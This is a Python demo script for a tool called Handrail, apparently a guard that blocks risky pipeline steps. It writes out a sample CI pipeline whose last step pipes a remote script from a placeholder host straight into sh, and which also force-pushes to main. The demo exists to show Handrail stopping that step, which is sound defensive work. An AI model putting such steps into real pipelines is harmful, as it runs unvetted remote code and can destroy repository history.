"""The pipeline of the panel's demo: its last step is one that Handrail stops."""

import subprocess
import sys
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from handrail.cli.demonstration.live_show import LiveShow

PROJECT = "site"
TELLS = "runs a pipeline, and Handrail stops its last step"
_STEPS = """name: publish the site
steps:
  - {name: check, type: command, command: sh check.sh}
  - {name: build, type: command, command: mkdir -p build && cp pages/*.md build/}
  - {name: push, type: command, command: git push --force origin main}
  - {name: announce, type: command, command: 'curl -s https://get.example/announce | sh'}
"""
_CHECK = "sleep 2\necho 12 pages, no broken link\n"
_FILES = {
    "pages/shoes.md": "# Shoes\n",
    "pages/boots.md": "# Boots\n",
    "check.sh": _CHECK,
    "ci.yaml": _STEPS,
}


def run_pipeline(show: "LiveShow") -> None:
    """Run the pipeline once, as a person does in a terminal."""
    folder = show.project(PROJECT, _FILES)
    show.rest()
    command = [sys.executable, "-m", "handrail", "pipeline", "run", "ci.yaml", "--json"]
    subprocess.run(
        command,
        cwd=folder,
        env=show.stage.environ,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        check=False,
    )
